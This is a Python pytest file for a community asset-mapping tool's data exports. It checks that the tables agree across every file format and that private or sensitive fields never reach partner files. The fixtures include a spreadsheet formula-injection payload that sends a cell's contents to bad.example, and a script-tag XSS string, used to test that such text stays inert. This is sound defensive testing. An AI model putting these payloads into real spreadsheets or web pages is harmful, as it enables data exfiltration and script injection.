"""Exported files: the values, that they read back, who sees what, hostile text, the same bytes."""

from __future__ import annotations

import csv
import io
import json
import math
import re
from datetime import date
from itertools import zip_longest
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
import shapely

from assetmap.errors import PublishError
from assetmap.mapping.text import page_data
from assetmap.measure.localities import summary
from assetmap.measure.model import EXPORT_COLUMNS
from assetmap.publish import site
from assetmap.publish.dictionary import TABLES, TEAM_ONLY, Column
from assetmap.publish.exports import export_files
from assetmap.publish.geofiles import table_geojson
from assetmap.publish.readback import texts_of
from assetmap.publish.tables import Table, table_csv
from assetmap.publish.workbook import tables_workbook
from tests.project import FARNWORTH, HORWICH, ROOT, RUMWORTH, TONGE, build, write_project

DAY = date(2026, 11, 23)
FORMULA = '=HYPERLINK("https://bad.example/?"&A1,"click")'
HOSTILE = "<script>alert(1)</script> ${x} \"quoted\", 'single'; two\nlines \u2028 \U0001f98a &amp; \\ end"
TYPED = ("description", "address", "times", "cost", "accessibility", "source")
ROWS = [
    {"id": "open", "name": FORMULA, "asset_type": "venue", "postcode": TONGE, "visibility": "public",
     "description": HOSTILE, "cost": "-5", "times": "+44 161 496 0000", "accessibility": "@SUM(A1)"},
    {"id": "usual", "name": "Usual club", "asset_type": "venue", "latitude": "53.5777",
     "longitude": "-2.4282"},
    {"id": "ours", "name": "Zqx hidden", "asset_type": "informal", "postcode": TONGE, "visibility": "team",
     **{name: f"Zqx-{name}" for name in TYPED},
     "website": "https://zqx.example/"},
    {"id": "never", "name": "Zqy never", "asset_type": "faith", "postcode": TONGE, "do_not_list": "yes",
     **{name: f"Zqy-{name}" for name in TYPED}},
    {"id": "refuge", "name": "A safe house", "asset_type": "venue", "postcode": FARNWORTH,
     "address": "Zqz address 7", "sensitive_location": "yes"},
    {"id": "no", "name": "Said no", "asset_type": "school", "postcode": HORWICH},
    {"id": "later", "name": "Asked for a break", "asset_type": "school", "postcode": RUMWORTH},
]  # fmt: skip
LOG = [
    {"date": "2026-11-03", "asset_id": "usual", "channel": "visit", "two_way": "yes", "stage": "talking",
     "next_step": "Zqa-next-step", "next_step_due": "2026-12-24", "notes": "Zqb-private-note",
     "recorded_by": "Zqc-recorder"},
    {"date": "2026-10-02", "asset_id": "no", "channel": "call", "two_way": "yes", "stage": "declined"},
    {"date": "2026-10-02", "asset_id": "later", "channel": "call", "two_way": "yes", "stage": "paused"},
]  # fmt: skip
INDICATOR = """[indicators.age]
file = "age.csv"
value = "over 64"
total = "population"
title = "=Older"
source = "Census 2021"
licence = "Open Government Licence v3.0"
target = ">= 20%"
"""


def project(folder: Path) -> Path:
    """A project with an indicator: 100 older people in each ward of Bolton but the first, and 4,000 there."""
    settings = write_project(folder, ROWS, LOG, settings=INDICATOR)
    contacts = folder / "assets" / "bolton" / "contacts.csv"
    contacts.write_text("asset_id,contact_name\nusual,Zqd Someone\n")
    wards = pd.read_csv(ROOT / "boundaries" / "ward_figures.csv")
    codes = wards.loc[wards["locality_code"] == "E08000001", "ward_code"].sort_values().to_list()
    lines = [f"{code},{4000 if n == 0 else 100}\n" for n, code in enumerate(codes)]
    (folder / "age.csv").write_text("code,over 64\n" + "".join(lines))
    return settings


@pytest.fixture(scope="module")
def maps(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("exports")
    assert build(project(folder), "--quiet") == 0
    return folder / "maps"


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def by(path: Path, key: str) -> dict[str, dict[str, str]]:
    return {row[key]: row for row in rows(path)}


def read(path: Path, **options: Any) -> Any:
    return gpd.read_file(path, engine="pyogrio", **options)


# --- the values, and that they read back ------------------------------------------------------------------


def test_the_tables_of_a_build_agree_with_each_other_in_every_form(maps: Path) -> None:
    for folder in (maps / "data", maps / "team" / "data"):
        book = openpyxl.load_workbook(folder / "assetmap.xlsx", read_only=True)
        for name in ("wards", "localities", "organisations"):
            plain = rows(folder / f"{name}.csv")
            layer = read(folder / "assetmap.gpkg", layer=name)
            head, *cells = book[name.title()].iter_rows(values_only=True)
            assert list(head) == list(plain[0])
            assert [c for c in layer.columns if c != "geometry"] == list(head)
            forms = [layer.to_dict("records"), [dict(zip_longest(head, row)) for row in cells]]
            if name != "localities":
                features = json.loads((folder / f"{name}.geojson").read_text("utf-8"))["features"]
                forms.append([feature["properties"] for feature in features])
            for form in forms:
                assert len(form) == len(plain)
                for one, other in zip(plain, form, strict=True):
                    assert [c for c in head if not same(one[c], other[c])] == []


def same(text: str, value: Any) -> bool:
    """Whether a CSV cell says what another form says."""
    if value is None or (not isinstance(value, str) and pd.isna(value)):
        return text == ""
    if isinstance(value, str):
        return text.removeprefix("'") == value
    return math.isclose(float(text), float(value), abs_tol=1e-6)


def test_the_values_are_those_of_the_measures(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = []
    real = site.export_tables

    def spy(*given: Any) -> Any:
        seen.append(given)
        return real(*given)

    monkeypatch.setattr(site, "export_tables", spy)
    assert build(project(tmp_path), "--quiet") == 0
    for (_, _, measures, _, audience), folder in zip(seen, ("data", "team/data"), strict=True):
        assert audience == ("partner" if folder == "data" else "team")
        table = pd.read_csv(
            tmp_path / "maps" / folder / "wards.csv", index_col="ward_code", encoding="utf-8-sig"
        )
        assert list(table.columns) == [*EXPORT_COLUMNS, "indicator_age"]
        for name in EXPORT_COLUMNS:
            expected = measures.wards[name]
            if name == "target":
                assert (table[name] == expected.map({True: "yes", False: "no"})).all()
            elif pd.api.types.is_numeric_dtype(expected):
                close = (
                    0.5 if name in ("population", "target_residents", "unreached_target_residents") else 1e-6
                )
                np.testing.assert_allclose(table[name], expected.astype(float), rtol=0, atol=close)
            else:
                assert (table[name].fillna("") == expected).all()
        localities = by(tmp_path / "maps" / folder / "localities.csv", "locality")
        assert float(localities["bolton"]["population"]) == round(
            measures.localities.at["bolton", "population"]
        )


def test_wards_add_up_to_their_locality(maps: Path) -> None:
    wards, [bolton] = rows(maps / "data" / "wards.csv"), rows(maps / "data" / "localities.csv")
    assert len(wards) == int(bolton["wards"]) == 20
    for name in ("population", "target_residents"):
        assert sum(int(row[name]) for row in wards) == pytest.approx(int(bolton[name]), abs=10)
    older = 4000 + 19 * 100
    people = int(bolton["population"])
    assert float(bolton["indicator_age"]) == pytest.approx(older / people, abs=1e-5)


def test_an_indicator_is_a_column_a_layer_a_source_and_part_of_the_rule(maps: Path) -> None:
    wards = rows(maps / "data" / "wards.csv")
    first = wards[0]
    assert float(first["indicator_age"]) == pytest.approx(4000 / int(first["population"]), rel=1e-4)
    assert first["target"] == "yes"
    page = (maps / "bolton.html").read_text("utf-8")
    data = page_data(page)
    [layer] = [one for one in data["layers"] if one["id"] == "indicator_age"]
    assert (layer["title"], layer["unit"]) == ("=Older", "percent")
    assert len(layer["colours"]) == len(layer["breaks"]) + 1
    assert data["areas"]["indicator_age"][0] == pytest.approx(float(first["indicator_age"]), abs=1e-4)
    [target] = [one for one in data["layers"] if one["id"] == "target"]
    assert "where the figure '=Older' is 20% or above" in target["help"]
    assert "where the figure &#39;=Older&#39; is 20% or above" in page
    assert "Source: Census 2021, licensed under the Open Government Licence v3.0" in page
    overview = page_data((maps / "index.html").read_text("utf-8"))
    assert "indicator_age" in overview["areas"]
    meaning = {(row["table"], row["column"]): row for row in rows(maps / "data" / "dictionary.csv")}
    assert meaning["wards", "indicator_age"]["source"] == "Census 2021"


def test_geojson_is_in_degrees_and_geopackage_in_metres(maps: Path) -> None:
    flat = read(maps / "data" / "wards.geojson")
    metres = read(maps / "data" / "assetmap.gpkg", layer="wards")
    assert (flat.crs.to_epsg(), metres.crs.to_epsg()) == (4326, 27700)
    assert "crs" not in json.loads((maps / "data" / "wards.geojson").read_text("utf-8"))
    assert flat.to_crs(27700).geometry.hausdorff_distance(metres.geometry).max() < 0.2
    assert flat.total_bounds == pytest.approx((-2.63, 53.52, -2.34, 53.65), abs=0.03)
    assert set(metres.geom_type) == {"MultiPolygon"}
    for shape in flat.geometry:
        for part in getattr(shape, "geoms", [shape]):
            assert part.exterior.is_ccw
            assert not any(ring.is_ccw for ring in part.interiors)
    kinds = pyogrio.list_layers(maps / "data" / "assetmap.gpkg")
    shaped = {"wards": "MultiPolygon", "organisations": "Point"}
    plain = dict.fromkeys(("localities", "dictionary", "about"))
    assert dict(kinds) == shaped | plain


def test_points_are_those_of_the_columns(maps: Path) -> None:
    usual = by(maps / "data" / "organisations.csv", "id")["usual"]
    assert (usual["latitude"], usual["longitude"]) == ("53.57770", "-2.42820")
    layer = read(maps / "data" / "assetmap.gpkg", layer="organisations").set_index("id")
    back = layer.to_crs(4326).geometry["usual"]
    assert (back.y, back.x) == pytest.approx((53.5777, -2.4282), abs=2e-6)
    flat = read(maps / "data" / "organisations.geojson").set_index("id")
    assert (flat.geometry["usual"].x, flat.geometry["usual"].y) == (-2.4282, 53.5777)


# --- who sees what ----------------------------------------------------------------------------------------


def test_partners_find_no_secret_in_any_file(maps: Path) -> None:
    for path in sorted((maps / "data").iterdir()):
        texts = "\n".join(texts_of(path.name, path.read_bytes()))
        raw = path.read_bytes().decode("utf-8", "replace")
        for secret in ("Zq", "zqx.", "2026-11-03", "2026-12-24", FARNWORTH, "declined", "paused known"):
            allowed = path.name.startswith(("dictionary", "assetmap")) and secret == "declined"
            assert allowed or secret not in texts, (path.name, secret)
            assert allowed or secret not in raw, (path.name, secret)


def test_partners_get_the_rows_columns_and_points_of_their_pages(maps: Path) -> None:
    found = by(maps / "data" / "organisations.csv", "id")
    assert set(found) == {"open", "usual", "refuge", "no", "later"}
    assert set(TEAM_ONLY).isdisjoint(found["open"])
    assert {found[one]["stage"] for one in ("no", "later")} == {"known"}
    assert found["usual"]["last_contact"] == "2026-11"
    refuge = found["refuge"]
    assert {refuge[name] for name in ("latitude", "longitude", "postcode", "address", "ward_code")} == {""}
    layer = read(maps / "data" / "assetmap.gpkg", layer="organisations").set_index("id")
    assert layer.geometry["refuge"] is None
    assert read(maps / "data" / "organisations.geojson").set_index("id").geometry["refuge"] is None


def test_the_team_gets_its_own_and_nobody_what_is_not_to_be_listed(maps: Path) -> None:
    folder = maps / "team" / "data"
    found = by(folder / "organisations.csv", "id")
    assert set(found) == {"open", "usual", "ours", "refuge", "no", "later"}
    assert (found["usual"]["notes"], found["usual"]["last_contact"]) == ("Zqb-private-note", "2026-11-03")
    assert found["refuge"]["latitude"] != ""
    for path in folder.iterdir():
        texts = "\n".join(texts_of(path.name, path.read_bytes()))
        assert "Zqy" not in texts
        assert "Zqd" not in texts


def test_a_column_of_the_leads_own_is_not_exported(tmp_path: Path) -> None:
    settings = write_project(tmp_path, ROWS[:2])
    path = tmp_path / "assets" / "bolton" / "assets.csv"
    path.write_text("id,name,asset_type,postcode,our_own\nu,Club,venue,BL2 2PG,Zqw\n")
    assert build(settings, "--quiet") == 0
    for file in (tmp_path / "maps").rglob("data/*"):
        assert "Zqw" not in "\n".join(texts_of(file.name, file.read_bytes()))


@pytest.mark.parametrize("form", ["csv", "geojson", "gpkg", "xlsx"])
@pytest.mark.parametrize(
    ("secret", "field", "row"),
    [("Zqx-cost", "cost", 4), ("Zqb-private-note", "notes", 2), (FARNWORTH, "postcode", 6)],
)
def test_a_leak_in_one_file_stops_the_build_and_names_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
    form: str, secret: str, field: str, row: int,
) -> None:  # fmt: skip
    real = site.export_files

    def leaky(tables: Any, about: Any, day: date) -> dict[str, bytes]:
        made = real(tables, about, day)
        organisations = next(one for one in tables if one.name == "organisations")
        if "notes" in organisations.cells:
            return made
        cells = {**organisations.cells, "times": [f"at {secret} o'clock"] * len(organisations.cells["times"])}
        with_it = Table("organisations", "Organisations", organisations.columns, cells, organisations.shapes)
        bad = export_files([with_it], about, day)
        [name] = [one for one in bad if one.endswith(f".{form}") and not one.startswith("about")]
        return {**made, name: bad[name]}

    monkeypatch.setattr(site, "export_files", leaky)
    assert build(write_project(tmp_path, ROWS, LOG), "--quiet") == 1
    said = capsys.readouterr().err
    assert f"data/{'organisations' if form in ('csv', 'geojson') else 'assetmap'}.{form}" in said
    assert f"'{field}'" in said
    assert f"row {row}" in said
    assert not (tmp_path / "maps").exists()


def test_a_point_of_a_sensitive_place_stops_the_build(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    real = site.export_tables

    def leaky(settings: Any, official: Any, measures: Any, places: Any, audience: str) -> Any:
        if audience == "partner":
            places = places.copy()
            places.loc["bolton/refuge", ["latitude", "longitude"]] = points[0]
        return real(settings, official, measures, places, audience)

    everything = site.places_for
    points: list[tuple[float, float]] = []

    def remember(audience: Any, lists: Any, measures: Any) -> Any:
        of_team = everything("team", lists, measures).loc["bolton/refuge"]
        points.append((of_team["latitude"], of_team["longitude"]))
        return everything(audience, lists, measures)

    monkeypatch.setattr(site, "places_for", remember)
    monkeypatch.setattr(site, "export_tables", leaky)
    assert build(write_project(tmp_path, ROWS, LOG), "--quiet") == 1
    said = capsys.readouterr().err
    assert "'latitude'" in said
    assert "row 6" in said


# --- hostile text, and the same bytes ---------------------------------------------------------------------


def test_text_that_looks_like_a_formula_is_text_everywhere(maps: Path) -> None:
    text = (maps / "data" / "organisations.csv").read_bytes().decode("utf-8-sig")
    line = next(row for row in csv.reader(io.StringIO(text, newline="")) if row[0] == "open")
    assert [
        cell for cell in line if re.match(r"[=+\-@\t\r\n]", cell) and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ] == []
    book = openpyxl.load_workbook(maps / "data" / "assetmap.xlsx")
    found = {}
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in ("s", "n"), (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix
                    found[cell.value] = True
    assert {FORMULA, "-5", "+44 161 496 0000", "@SUM(A1)"} <= set(found)


def test_hostile_text_comes_back_as_typed(maps: Path) -> None:
    typed = read(maps / "data" / "assetmap.gpkg", layer="organisations").set_index("id")
    assert typed.at["open", "description"] == HOSTILE
    assert typed.at["open", "name"] == FORMULA
    flat = json.loads((maps / "data" / "organisations.geojson").read_text("utf-8"))["features"]
    [feature] = [one for one in flat if one["properties"]["id"] == "open"]
    assert feature["properties"]["description"] == HOSTILE
    sheet = openpyxl.load_workbook(maps / "data" / "assetmap.xlsx")["Organisations"]
    head = [cell.value for cell in sheet[1]]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["open"][head.index("description")].value == HOSTILE


def test_characters_that_a_workbook_cannot_hold_are_left_out() -> None:
    columns = (Column("name", "text", ""), Column("n", "number", ""))
    table = Table("t", "T", columns, {"name": ["a\x0bb\x00c", "#N/A"], "n": [None, 3]})
    book = openpyxl.load_workbook(io.BytesIO(tables_workbook([table], DAY)))
    assert [[cell.value for cell in row] for row in book["T"]] == [["name", "n"], ["abc", None], ["#N/A", 3]]
    assert table_csv(table).decode("utf-8-sig") == "name,n\r\na\x0bb\x00c,\r\n#N/A,3\r\n"


def test_a_hole_and_an_island_keep_their_rings() -> None:
    outer = shapely.box(380000, 400000, 381000, 401000)
    shape = shapely.MultiPolygon(
        [outer - shapely.box(380400, 400400, 380600, 400600), shapely.box(382000, 400000, 382100, 400100)]
    )
    shapes = np.array([shape, None], dtype=object)
    made = json.loads(table_geojson(Table("w", "W", (Column("a", "text", ""),), {"a": ["x", "y"]}, shapes)))
    back = shapely.geometry.shape(made["features"][0]["geometry"])
    assert [len(part.interiors) for part in back.geoms] == [1, 0]
    assert made["features"][1]["geometry"] is None


def test_the_same_lists_give_the_same_bytes(tmp_path: Path, maps: Path) -> None:
    assert build(project(tmp_path), "--quiet") == 0
    for folder in ("data", "team/data"):
        for path in (maps / folder).iterdir():
            assert (tmp_path / "maps" / folder / path.name).read_bytes() == path.read_bytes(), path.name


# --- the dictionary ---------------------------------------------------------------------------------------


def test_every_column_is_in_the_dictionary_with_meaning_unit_and_source(maps: Path) -> None:
    for folder in (maps / "data", maps / "team" / "data"):
        told = rows(folder / "dictionary.csv")
        assert all(row["meaning"] and row["unit"] and row["source"] for row in told)
        for name in ("wards", "localities", "organisations"):
            assert [row["column"] for row in told if row["table"] == name] == list(
                rows(folder / f"{name}.csv")[0]
            )


def test_the_columns_of_the_dictionary_are_those_of_the_measures() -> None:
    assert [one.name for one in TABLES["wards"]] == ["ward_code", *EXPORT_COLUMNS]
    documented = summary.__doc__ or ""
    for one in TABLES["localities"][3:]:
        known = one.name in documented or one.name.startswith("wards_")
        assert known or one.name in ("population", "target_residents", "unreached_target_residents"), one.name


def test_what_the_figures_rest_on_goes_with_them(maps: Path) -> None:
    about = [(row["what"], row["text"]) for row in rows(maps / "data" / "about.csv")]
    assert ("Day of the figures", "2026-11-23") in about
    assert any(what == "'=Older" or "Open Government Licence" in text for what, text in about)
    assert any(what == "Note" and "Approximate shapes" in text for what, text in about)


def test_the_page_on_exports_has_the_tables_of_the_code() -> None:
    from tests.publish.exports_page import PAGE, with_tables

    text = PAGE.read_text("utf-8")
    assert with_tables(text) == text, "write them anew: .venv/bin/python -m tests.publish.exports_page"


def test_a_refusal_is_an_error_of_publishing() -> None:
    with pytest.raises(PublishError):
        site.prove_exports(
            "partner",
            "data",
            {},
            Table("o", "O", (), {"notes": ["anything"]}),
            None,
            (),  # type: ignore[arg-type]
        )
